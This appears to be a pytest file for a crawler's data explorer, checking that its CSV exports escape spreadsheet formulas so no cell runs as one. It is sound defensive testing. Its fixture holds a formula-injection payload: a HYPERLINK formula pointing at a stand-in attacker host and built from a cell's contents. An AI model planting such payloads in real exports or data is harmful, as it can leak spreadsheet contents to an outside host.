"""CSV of tables, rows and SQL in the explorer: no cell is a formula."""

from __future__ import annotations

import asyncio
import csv
import io
from pathlib import Path
from urllib.parse import quote

import pytest
from sqlite_utils import Database

from crawler.explorer.datasette_app import create_explorer
from crawler.workspace import Workspace
from tests.explorer.request_fuzz import sample_workspace

TITLE = "=HYPERLINK(\"https://evil.example/\"&A1)\n,'x'"


@pytest.fixture(scope="module")
def workspace(tmp_path_factory: pytest.TempPathFactory) -> Workspace:
    here = sample_workspace(tmp_path_factory.mktemp("csv"))
    Database(here.public_database)["articles"].update(1, {"title": TITLE})
    return here


def rows(here: Workspace, path: str) -> list[list[str]]:
    async def respond() -> str:
        explorer = create_explorer(here)
        await explorer.invoke_startup()
        response = await explorer.client.get(path)
        assert response.status_code == 200, response.text
        return str(response.text)

    return list(csv.reader(io.StringIO(asyncio.run(respond()), newline="")))


@pytest.mark.parametrize("query", ["id=1", "id=1&_labels=on", "id=1&_dl=1", "id=1&_col=title"])
def test_formula_in_a_table_is_text(workspace: Workspace, query: str) -> None:
    header, row = rows(workspace, f"/public/articles.csv?{query}")
    assert row[header.index("title")] == f"'{TITLE}"


def test_formula_of_sql_is_text_and_numbers_are_unchanged(workspace: Workspace) -> None:
    sql = "select '@x' as \"+a\", -5 as b, -0.5 as c, '\uff1d1' as d, null as e, char(9) as f"
    assert rows(workspace, f"/public.csv?sql={quote(sql)}") == [
        ["'+a", "b", "c", "d", "e", "f"],
        ["'@x", "-5", "-0.5", "'\uff1d1", "", "'\t"],
    ]


def test_csv_of_the_most_rows_has_labels_of_as_many_other_rows(tmp_path: Path) -> None:
    here = sample_workspace(tmp_path)
    snapshot = Database(here.public_database)
    article = dict(next(snapshot["articles"].rows))
    link = dict(next(snapshot["links"].rows))
    copies = [
        article | {"id": key, "url": f"https://a.example/{key}", "key": f"a.example/{key}"}
        for key in range(10_000, 11_200)
    ]
    snapshot["articles"].insert_all(copies)
    snapshot["links"].insert_all(
        link | {"id": copy["id"], "article_id": copy["id"], "position": copy["id"]}
        for copy in copies
    )
    header, *lines = rows(here, "/public/links.csv?_labels=on&_size=max&_sort_desc=id")
    assert len(lines) == 1000
    assert lines[0][header.index("article_id_label")] == article["title"]


def test_error_of_csv_is_an_error_page(tmp_path: Path) -> None:
    async def respond() -> tuple[int, str]:
        explorer = create_explorer(sample_workspace(tmp_path))
        await explorer.invoke_startup()
        response = await explorer.client.get("/public.csv?sql=select+x")
        return response.status_code, response.text

    status, text = asyncio.run(respond())
    assert status == 400
    assert "no such column: x" in text
